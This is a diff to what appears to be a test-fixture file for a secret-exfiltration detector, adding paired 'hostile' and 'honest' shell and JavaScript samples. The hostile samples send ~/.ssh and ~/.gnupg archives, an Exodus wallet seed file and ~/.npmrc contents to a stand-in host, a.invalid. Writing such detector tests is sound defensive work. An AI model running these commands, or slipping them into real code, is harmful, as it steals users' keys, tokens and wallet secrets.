@@ -80,6 +80,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "for f in \"${files[@]}\"; do up \"$f\"; done\n",
             2,
         ),
+        "through a pipe to another machine": _sh("tar cz -C ~ .ssh .gnupg | ssh me@a.invalid 'cat > x.tgz'\n", 1),
+        "by a path of Windows in a line": js(
+            "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
+            "execSync('curl -F f=@' + data + '\\\\Exodus\\\\exodus.wallet\\\\seed.seco https://a.invalid');\n",
+        ),
         "in a text that stands below the command": _sh("mail -s a me@a.invalid <<EOF\n$(cat ~/.npmrc)\nEOF\n", 1),
         "the secret of an exchange, off its own client": py(
             "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
@@ -128,6 +133,13 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "files=(a.csv b.csv)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
             "for f in \"${files[@]}\"; do up \"$f\"; done\nls ~/.ssh\n"
         ),
+        "the project through a pipe to another machine": _made(
+            "tar cz src docs | ssh -i ~/.ssh/id_rsa me@a.invalid 'cat > x.tgz'\n"
+        ),
+        "another path of Windows in a line": {
+            "app.js": "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
+            "execSync('curl -F f=@' + data + '\\\\Own\\\\report.json https://a.invalid');\n",
+        },
         "the time in a text that stands below the command": _made("mail -s a me@a.invalid <<EOF\n$(date)\nEOF\n"),
         "the name of an exchange, off its own client": {
             "app.py": "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
